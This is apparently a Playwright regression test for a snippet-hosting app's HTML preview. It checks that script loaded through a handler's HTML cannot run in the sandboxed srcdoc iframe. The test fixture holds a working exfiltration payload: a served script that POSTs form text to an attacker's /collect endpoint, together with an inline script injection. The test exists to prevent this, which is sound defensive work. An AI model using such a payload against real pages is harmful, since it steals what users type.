/**
 * The HTML preview runs no script. It was sandboxed with `allow-scripts` and counted on the page's
 * CSP, which its srcdoc inherits, to block them: that CSP's `script-src 'self'` trusts the app's
 * origin, and a request from the preview's opaque origin is `Sec-Fetch-Site: cross-site`, so
 * `/fn`'s same-origin script guard let it by. A handler's HTML that loaded
 * `<script src="/fn/<id>/…">` ran script inside the app page's preview, and could send what it
 * read (keystrokes typed into a fake form) to an endpoint of the attacker's.
 */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { Browser, Frame, Page } from "playwright-core";
import { APP_URL, chooseLanguage, launchAppPage, runInBrowser, writeCode } from "./snippet-page.ts";

let browser: Browser;
let page: Page;

before(async () => {
  ({ browser, page } = await launchAppPage());
});
after(() => browser?.close());

async function createSnippet(code: string): Promise<string> {
  const response = await fetch(`${APP_URL}/api/snippets`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ language: "typescript", code }),
  });
  assert.equal(response.status, 201);
  return ((await response.json()) as { id: string }).id;
}

function previewFrame(): Frame | undefined {
  return page
    .frames()
    .find((frame) => frame.parentFrame() === page.mainFrame() && frame.url() === "about:srcdoc");
}

describe("the HTML preview", () => {
  test("runs no script a handler's HTML brings in", async () => {
    // The attacker's script, served by an endpoint of theirs (cross-origin-resource-policy passes
    // the allow-list, which COEP needs for a cross-origin script).
    const script = await createSnippet(
      `export default async (req: Request) => {
  if (new URL(req.url).pathname === "/collect")
    return new Response("collected: " + (await req.text()), { headers: { "access-control-allow-origin": "*" } });
  return new Response(
    "document.body.dataset.ran = 'external';" +
      "fetch(new URL('collect', document.currentScript.src), { method: 'POST', body: 'typed into a fake form' })" +
      ".then((r) => r.text()).then((t) => { document.body.dataset.sent = t; });",
    { headers: { "content-type": "text/javascript", "cross-origin-resource-policy": "cross-origin" } },
  );
};
`,
    );
    await chooseLanguage(page, "typescript");
    await writeCode(
      page,
      `export default () => new Response(
  '<p id="x">hi</p><script>document.body.dataset.inline = "ran";</script><script src="/fn/${script}/x.js"></script>',
  { headers: { "content-type": "text/html" } },
);
`,
    );
    assert.equal(await runInBrowser(page), "200");
    await page.locator("iframe.preview").waitFor();
    await page.waitForTimeout(2000);
    const frame = previewFrame();
    assert.ok(frame, "no preview frame");
    // The frame's own document, read from outside it (no script of its own runs there).
    const ran = await frame.evaluate(() => ({ ...document.body.dataset }));
    assert.deepEqual(ran, {}, "a script ran inside the app page's preview");
    assert.equal(await frame.locator("#x").textContent(), "hi", "the HTML itself shows");
  });
});
